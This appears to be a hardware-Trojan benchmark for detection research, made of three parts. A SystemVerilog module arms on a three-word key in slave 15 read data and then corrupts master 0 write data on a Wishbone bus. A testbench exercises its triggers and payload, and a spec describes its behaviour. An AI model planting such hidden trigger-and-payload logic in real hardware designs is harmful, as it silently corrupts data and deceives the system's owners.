// File: rtl/s15_to_m0_seq_trojan.sv
// Sequential Trojan on the master 0 write-data path.
// A three-word key in acknowledged slave 15 read data arms the payload. While
// armed, the payload ORs a mask into master 0 write data for a bounded number
// of completed writes. An idle timeout also disarms it.
module s15_to_m0_seq_trojan #(
  parameter logic [31:0] KEY0           = 32'h3553_B86C,
  parameter logic [31:0] KEY1           = 32'hEAAA_D8FF,
  parameter logic [31:0] KEY2           = 32'h0AA9_70B8,
  parameter logic [31:0] PAYLOAD_MASK   = 32'h0000_0003,
  parameter int unsigned PAYLOAD_WRITES = 4,
  parameter int unsigned TIMEOUT_CYCLES = 1024
) (
  input  logic        clk_i,
  input  logic        rst_ni,
  input  logic        i_s15_ack_o,
  input  logic [31:0] i_s15_data_o,
  input  logic        m0_cyc_i,
  input  logic        m0_stb_i,
  input  logic        m0_we_i,
  input  logic        m0_ack_o,
  input  logic [31:0] m0_data_i,
  output logic [31:0] m0_data_i_TrojanPayload,
  output logic        armed_o
);

  typedef enum logic [1:0] {StIdle, StK1, StK2, StArmed} state_e;

  localparam logic [7:0]  WrLoad = 8'(PAYLOAD_WRITES);
  localparam logic [15:0] ToLoad = 16'(TIMEOUT_CYCLES);

  state_e      state_q, state_d;
  logic [7:0]  wr_cnt_q, wr_cnt_d;
  logic [15:0] to_cnt_q, to_cnt_d;

  logic key_smp;
  logic wr;
  logic wr_done;
  logic armed;

  assign key_smp = i_s15_ack_o;
  assign wr      = m0_cyc_i & m0_stb_i & m0_we_i;
  assign wr_done = wr & m0_ack_o;
  assign armed   = (state_q == StArmed);

  // Key-sequence FSM, write budget and idle timeout.
  always_comb begin
    state_d  = state_q;
    wr_cnt_d = wr_cnt_q;
    to_cnt_d = to_cnt_q;
    case (state_q)
      StIdle: begin
        if (key_smp && (i_s15_data_o == KEY0)) state_d = StK1;
      end
      StK1: begin
        if (key_smp) begin
          if (i_s15_data_o == KEY1)      state_d = StK2;
          else if (i_s15_data_o == KEY0) state_d = StK1;
          else                           state_d = StIdle;
        end
      end
      StK2: begin
        if (key_smp) begin
          if (i_s15_data_o == KEY2) begin
            state_d  = StArmed;
            wr_cnt_d = WrLoad;
            to_cnt_d = ToLoad;
          end else if (i_s15_data_o == KEY0) begin
            state_d = StK1;
          end else begin
            state_d = StIdle;
          end
        end
      end
      StArmed: begin
        // A completed write takes priority over a coincident timeout expiry.
        if (wr_done) begin
          wr_cnt_d = wr_cnt_q - 8'd1;
          to_cnt_d = ToLoad;
          if (wr_cnt_q == 8'd1) state_d = StIdle;
        end else begin
          to_cnt_d = to_cnt_q - 16'd1;
          if (to_cnt_q == 16'd1) state_d = StIdle;
        end
      end
      default: state_d = StIdle;
    endcase
  end

  // State and counter registers.
  always_ff @(posedge clk_i or negedge rst_ni) begin
    if (!rst_ni) begin
      state_q  <= StIdle;
      wr_cnt_q <= 8'd0;
      to_cnt_q <= 16'd0;
    end else begin
      state_q  <= state_d;
      wr_cnt_q <= wr_cnt_d;
      to_cnt_q <= to_cnt_d;
    end
  end

  // Payload: zero-latency OR on write cycles while armed; reads pass through.
  always_comb begin
    m0_data_i_TrojanPayload = m0_data_i;
    if (armed && wr) m0_data_i_TrojanPayload = m0_data_i | PAYLOAD_MASK;
  end

  assign armed_o = armed;

endmodule

// File: tb/tb_s15_to_m0_seq_trojan.sv
// Self-checking bench for s15_to_m0_seq_trojan: key sequences, payload,
// write budget, idle timeout, read passthrough and asynchronous reset.
module tb_s15_to_m0_seq_trojan;

  localparam logic [31:0] K0 = 32'h3553_B86C;
  localparam logic [31:0] K1 = 32'hEAAA_D8FF;
  localparam logic [31:0] K2 = 32'h0AA9_70B8;

  logic        clk = 1'b0;
  logic        rst_ni = 1'b0;
  logic        s15_ack = 1'b0;
  logic [31:0] s15_data = '0;
  logic        cyc = 1'b0, stb = 1'b0, we = 1'b0, mack = 1'b0;
  logic [31:0] mdata = '0;
  logic [31:0] dout;
  logic        armed;

  int checks = 0;
  int errors = 0;
  logic [31:0] exp_q[$];
  logic [31:0] got, exp_v;

  always #5 clk = ~clk;

  s15_to_m0_seq_trojan dut (
    .clk_i                  (clk),
    .rst_ni                 (rst_ni),
    .i_s15_ack_o            (s15_ack),
    .i_s15_data_o           (s15_data),
    .m0_cyc_i               (cyc),
    .m0_stb_i               (stb),
    .m0_we_i                (we),
    .m0_ack_o               (mack),
    .m0_data_i              (mdata),
    .m0_data_i_TrojanPayload(dout),
    .armed_o                (armed)
  );

  initial begin
    #2_000_000;
    $display("FAIL watchdog time limit reached");
    $fatal(1, "watchdog");
  end

  // Drive one cycle of inputs just after the edge; sample mid-cycle.
  task automatic step(input logic ack, input logic [31:0] sd, input logic c, input logic s,
                      input logic w, input logic ma, input logic [31:0] md);
    @(posedge clk);
    #1;
    s15_ack = ack; s15_data = sd; cyc = c; stb = s; we = w; mack = ma; mdata = md;
    #3;
  endtask

  task automatic idle();
    step(1'b0, 32'h0, 1'b0, 1'b0, 1'b0, 1'b0, 32'h0);
  endtask

  task automatic send_key(input logic [31:0] k);
    step(1'b1, k, 1'b0, 1'b0, 1'b0, 1'b0, 32'h0);
  endtask

  task automatic do_reset();
    @(posedge clk); #1; rst_ni = 1'b0;
    s15_ack = 1'b0; cyc = 1'b0; stb = 1'b0; we = 1'b0; mack = 1'b0;
    @(posedge clk); #1; rst_ni = 1'b1;
  endtask

  task automatic arm_seq();
    send_key(K0); send_key(K1); send_key(K2);
  endtask

  task automatic test_reset();
    #1;
    s15_ack = 1'b0; cyc = 1'b1; stb = 1'b1; we = 1'b1; mack = 1'b0; mdata = 32'hAAAA_5554;
    #2;
    checks++;
    if (armed !== 1'b0) begin errors++; $display("FAIL reset_armed got %b exp 0", armed); end
    checks++;
    if (dout !== 32'hAAAA_5554) begin
      errors++; $display("FAIL reset_pass got %h exp aaaa5554", dout);
    end
    @(posedge clk); #1; rst_ni = 1'b1;
    exp_q.push_back(32'hAAAA_5554);
    step(1'b0, 32'h0, 1'b1, 1'b1, 1'b1, 1'b1, 32'hAAAA_5554);
    got = dout; exp_v = exp_q.pop_front(); checks++;
    if (got !== exp_v) begin errors++; $display("FAIL post_reset_pass got %h exp %h", got, exp_v); end
  endtask

  task automatic test_basic_arm();
    do_reset();
    send_key(K0); send_key(K1);
    // Write in the KEY2 ack cycle must not be corrupted.
    exp_q.push_back(32'h1234_5670);
    step(1'b1, K2, 1'b1, 1'b1, 1'b1, 1'b0, 32'h1234_5670);
    got = dout; exp_v = exp_q.pop_front(); checks++;
    if (got !== exp_v) begin errors++; $display("FAIL key2_cycle_wr got %h exp %h", got, exp_v); end
    checks++;
    if (armed !== 1'b0) begin errors++; $display("FAIL key2_cycle_armed got %b exp 0", armed); end
    // Multi-cycle first write: corrupted while waiting, counted once at ack.
    exp_q.push_back(32'h1234_5673);
    step(1'b0, 32'h0, 1'b1, 1'b1, 1'b1, 1'b0, 32'h1234_5670);
    got = dout; exp_v = exp_q.pop_front(); checks++;
    if (got !== exp_v) begin errors++; $display("FAIL wait_wr got %h exp %h", got, exp_v); end
    checks++;
    if (armed !== 1'b1) begin errors++; $display("FAIL armed_rise got %b exp 1", armed); end
    for (int i = 0; i < 4; i++) begin
      exp_q.push_back(32'h1234_5673);
      step(1'b0, 32'h0, 1'b1, 1'b1, 1'b1, 1'b1, 32'h1234_5670);
      got = dout; exp_v = exp_q.pop_front(); checks++;
      if (got !== exp_v) begin errors++; $display("FAIL wr%0d got %h exp %h", i, got, exp_v); end
      checks++;
      if (armed !== 1'b1) begin errors++; $display("FAIL wr%0d_armed got %b exp 1", i, armed); end
    end
    exp_q.push_back(32'h1234_5670);
    step(1'b0, 32'h0, 1'b1, 1'b1, 1'b1, 1'b1, 32'h1234_5670);
    got = dout; exp_v = exp_q.pop_front(); checks++;
    if (got !== exp_v) begin errors++; $display("FAIL wr5_pass got %h exp %h", got, exp_v); end
    checks++;
    if (armed !== 1'b0) begin errors++; $display("FAIL armed_fall got %b exp 0", armed); end
  endtask

  task automatic test_key_sequences();
    do_reset();
    send_key(K0); send_key(K0); send_key(K1); send_key(K2);
    idle();
    checks++;
    if (armed !== 1'b1) begin errors++; $display("FAIL repeat_k0 got %b exp 1", armed); end
    do_reset();
    send_key(K0); send_key(K1); send_key(32'hDEAD_BEEF); send_key(K2);
    exp_q.push_back(32'h0000_0010);
    step(1'b0, 32'h0, 1'b1, 1'b1, 1'b1, 1'b1, 32'h0000_0010);
    got = dout; exp_v = exp_q.pop_front(); checks++;
    if (got !== exp_v) begin errors++; $display("FAIL bad_seq_wr got %h exp %h", got, exp_v); end
    checks++;
    if (armed !== 1'b0) begin errors++; $display("FAIL bad_seq_armed got %b exp 0", armed); end
  endtask

  task automatic test_unacked();
    do_reset();
    // Unacked key words between acked ones do not disturb progress.
    send_key(K0);
    step(1'b0, 32'h5555_AAAA, 1'b0, 1'b0, 1'b0, 1'b0, 32'h0);
    step(1'b0, K2, 1'b0, 1'b0, 1'b0, 1'b0, 32'h0);
    send_key(K1);
    step(1'b0, K0, 1'b0, 1'b0, 1'b0, 1'b0, 32'h0);
    send_key(K2);
    idle();
    checks++;
    if (armed !== 1'b1) begin errors++; $display("FAIL unacked_gap got %b exp 1", armed); end
    do_reset();
    // An acked non-key word resets progress.
    send_key(K0); send_key(K1); send_key(32'h1111_1111); send_key(K2);
    idle();
    checks++;
    if (armed !== 1'b0) begin errors++; $display("FAIL nonkey_reset got %b exp 0", armed); end
    send_key(K0); send_key(32'h2222_2222); send_key(K1); send_key(K2);
    idle();
    checks++;
    if (armed !== 1'b0) begin errors++; $display("FAIL nonkey_k1 got %b exp 0", armed); end
  endtask

  task automatic test_timeout();
    do_reset();
    arm_seq();
    for (int k = 1; k <= 1024; k++) begin
      idle();
      if (k == 1 || k == 1024) begin
        checks++;
        if (armed !== 1'b1) begin errors++; $display("FAIL to_hold k%0d got %b exp 1", k, armed); end
      end
    end
    idle();
    checks++;
    if (armed !== 1'b0) begin errors++; $display("FAIL to_expire got %b exp 0", armed); end
    do_reset();
    arm_seq();
    for (int k = 1; k <= 1023; k++) idle();
    // Write completing on the expiry cycle wins and reloads the timeout.
    exp_q.push_back(32'h0000_0103);
    step(1'b0, 32'h0, 1'b1, 1'b1, 1'b1, 1'b1, 32'h0000_0100);
    got = dout; exp_v = exp_q.pop_front(); checks++;
    if (got !== exp_v) begin errors++; $display("FAIL to_wr got %h exp %h", got, exp_v); end
    for (int k = 1025; k <= 2048; k++) begin
      idle();
      if (k == 1025 || k == 2048) begin
        checks++;
        if (armed !== 1'b1) begin errors++; $display("FAIL reload k%0d got %b exp 1", k, armed); end
      end
    end
    idle();
    checks++;
    if (armed !== 1'b0) begin errors++; $display("FAIL reload_expire got %b exp 0", armed); end
  endtask

  task automatic test_read_passthrough();
    do_reset();
    arm_seq();
    for (int i = 0; i < 3; i++) begin
      exp_q.push_back(32'hFFFF_0000);
      step(1'b0, 32'h0, 1'b1, 1'b1, 1'b0, 1'b1, 32'hFFFF_0000);
      got = dout; exp_v = exp_q.pop_front(); checks++;
      if (got !== exp_v) begin errors++; $display("FAIL read%0d got %h exp %h", i, got, exp_v); end
    end
    exp_q.push_back(32'hFFFF_0000);
    step(1'b0, 32'h0, 1'b0, 1'b0, 1'b1, 1'b0, 32'hFFFF_0000);
    got = dout; exp_v = exp_q.pop_front(); checks++;
    if (got !== exp_v) begin errors++; $display("FAIL idle_bus got %h exp %h", got, exp_v); end
    // Budget untouched by reads: all four writes still corrupted.
    for (int i = 0; i < 4; i++) begin
      exp_q.push_back(32'hFFFF_0003);
      step(1'b0, 32'h0, 1'b1, 1'b1, 1'b1, 1'b1, 32'hFFFF_0000);
      got = dout; exp_v = exp_q.pop_front(); checks++;
      if (got !== exp_v) begin errors++; $display("FAIL rd_wr%0d got %h exp %h", i, got, exp_v); end
    end
    idle();
    checks++;
    if (armed !== 1'b0) begin errors++; $display("FAIL rd_budget got %b exp 0", armed); end
  endtask

  task automatic test_reset_midwrite();
    do_reset();
    arm_seq();
    exp_q.push_back(32'h1234_5673);
    step(1'b0, 32'h0, 1'b1, 1'b1, 1'b1, 1'b0, 32'h1234_5670);
    got = dout; exp_v = exp_q.pop_front(); checks++;
    if (got !== exp_v) begin errors++; $display("FAIL mid_pre got %h exp %h", got, exp_v); end
    rst_ni = 1'b0;
    #1;
    checks++;
    if (dout !== 32'h1234_5670) begin errors++; $display("FAIL mid_async got %h exp 12345670", dout); end
    checks++;
    if (armed !== 1'b0) begin errors++; $display("FAIL mid_armed got %b exp 0", armed); end
    @(posedge clk); #1; rst_ni = 1'b1;
    exp_q.push_back(32'h1234_5670);
    step(1'b0, 32'h0, 1'b1, 1'b1, 1'b1, 1'b1, 32'h1234_5670);
    got = dout; exp_v = exp_q.pop_front(); checks++;
    if (got !== exp_v) begin errors++; $display("FAIL mid_post got %h exp %h", got, exp_v); end
    checks++;
    if (armed !== 1'b0) begin errors++; $display("FAIL mid_post_armed got %b exp 0", armed); end
  endtask

  initial begin
    test_reset();
    test_basic_arm();
    test_key_sequences();
    test_unacked();
    test_timeout();
    test_read_passthrough();
    test_reset_midwrite();
    $display("CHECKS %0d ERRORS %0d", checks, errors);
    $finish;
  end

endmodule

// File: doc/s15_to_m0_seq_trojan.md
# s15_to_m0_seq_trojan

Sequential hardware-Trojan benchmark for the return path of the Wishbone interconnect between master 0 and slave 15. A three-word key sequence in slave 15 read data, sampled on acknowledged transfers, arms the block. While armed, the payload ORs a mask into master 0 write data for a bounded number of completed writes, then disarms. The block sits inline on master 0's write-data path, and `armed_o` is exposed for trigger-coverage measurement in the detection flow.

## Interface
- `KEY0`, default 32'h3553_B86C: first trigger word.
- `KEY1`, default 32'hEAAA_D8FF: second trigger word.
- `KEY2`, default 32'h0AA9_70B8: third trigger word.
- `PAYLOAD_MASK`, default 32'h0000_0003: bits forced to 1 in corrupted write data.
- `PAYLOAD_WRITES`, default 4: number of acknowledged writes corrupted per arming. Legal range is 1..255.
- `TIMEOUT_CYCLES`, default 1024: number of armed cycles without a completed write before disarming. Legal range is 1..65535.

Ports (name, direction, width, meaning):
- `clk_i`, in, 1: single clock, rising edge.
- `rst_ni`, in, 1: reset, asynchronous assert, active-low.
- `i_s15_ack_o`, in, 1: slave 15 acknowledge.
- `i_s15_data_o`, in, 32: slave 15 read data.
- `m0_cyc_i`, in, 1: master 0 cycle.
- `m0_stb_i`, in, 1: master 0 strobe.
- `m0_we_i`, in, 1: master 0 write enable.
- `m0_ack_o`, in, 1: acknowledge returned to master 0.
- `m0_data_i`, in, 32: master 0 write data.
- `m0_data_i_TrojanPayload`, out, 32: write data forwarded to the interconnect.
- `armed_o`, out, 1: high while the FSM is in ARMED.

## Operation
- Key sample: `key_smp = i_s15_ack_o`. Only cycles with `key_smp` high advance the key FSM. Other cycles hold state.
- Write qualifier: `wr = m0_cyc_i & m0_stb_i & m0_we_i`. Write completion: `wr_done = wr & m0_ack_o`.
- FSM states and transitions:
  - IDLE:
    - `key_smp` with data == KEY0 goes to K1.
    - Otherwise stay in IDLE.
  - K1:
    - `key_smp` with data == KEY1 goes to K2.
    - `key_smp` with data == KEY0 stays in K1.
    - `key_smp` with any other data goes to IDLE.
  - K2:
    - `key_smp` with data == KEY2 goes to ARMED. Load `wr_cnt` with PAYLOAD_WRITES and `to_cnt` with TIMEOUT_CYCLES.
    - `key_smp` with data == KEY0 goes to K1.
    - `key_smp` with any other data goes to IDLE.
  - ARMED (slave 15 acks are ignored in this state):
    - On `wr_done`, decrement `wr_cnt` and reload `to_cnt`. If `wr_cnt` == 1, go to IDLE.
    - With no `wr_done`, decrement `to_cnt`. If `to_cnt` == 1, go to IDLE.
    - If `wr_done` and timeout expiry occur in the same cycle, the write wins: the counter is reloaded or the FSM exits on the last write.
- Payload (combinational, from registered state):
  - `m0_data_i_TrojanPayload = (ARMED & wr) ? (m0_data_i | PAYLOAD_MASK) : m0_data_i`.
  - Read cycles and idle bus cycles always pass through unmodified.
- `armed_o` is the registered decode of state == ARMED.
- Counter widths: `wr_cnt` is 8 bits and `to_cnt` is 16 bits. Both are unsigned with no wrap, because exit occurs at 1 and the counters never reach 0 while armed.
- Reset values: state IDLE, `wr_cnt` 0, `to_cnt` 0, `armed_o` 0. The data output passes `m0_data_i` through during and immediately after reset.
- Reset asserted mid-sequence or while ARMED returns the block to IDLE at once. Payload stops in the same cycle, asynchronously.

## Timing
- Key sample at edge t updates state at edge t; the new state is visible in cycle t+1. An ack carrying KEY2 in cycle t means writes from cycle t+1 onward are corrupted.
- A write in the same cycle as the KEY2 ack is not corrupted.
- The payload has zero latency relative to `m0_data_i` once armed.
- The data of the final corrupted write is modified in its ack cycle. `armed_o` and the payload deassert in the next cycle.
- A multi-cycle write (`wr` high, ack late) is corrupted on every cycle until its ack, and counts once.
- Back-to-back acks on slave 15 are each evaluated. No gap between key words is required, and any number of non-ack cycles may separate them.

## Test plan
- Sequence of acks carrying 3553B86C, EAAAD8FF, 0AA970B8, then 4 acked writes of 0x1234_5670: `armed_o` rises one cycle after the KEY2 ack, each write emits 0x1234_5673, `armed_o` falls after the 4th ack, and a 5th write passes 0x1234_5670.
- KEY0, KEY0, KEY1, KEY2: arms, because the repeated KEY0 holds K1. KEY0, KEY1, 0xDEADBEEF, KEY2: stays IDLE and `armed_o` stays 0.
- Key words presented with `i_s15_ack_o` low, interleaved with non-key acked data: no state advance on unacked cycles, and any acked non-key word resets the FSM to IDLE.
- Arm, then no writes for 1024 cycles: `armed_o` falls exactly 1024 cycles after arming. A write acked at cycle 1023 reloads the timeout instead.
- Arm, then read cycles (`m0_we_i` 0) with data 0xFFFF_0000: passthrough unchanged and `wr_cnt` unchanged. Arm, then assert `rst_ni` low mid-write: output equals `m0_data_i` in the same cycle, and the block is IDLE after release.
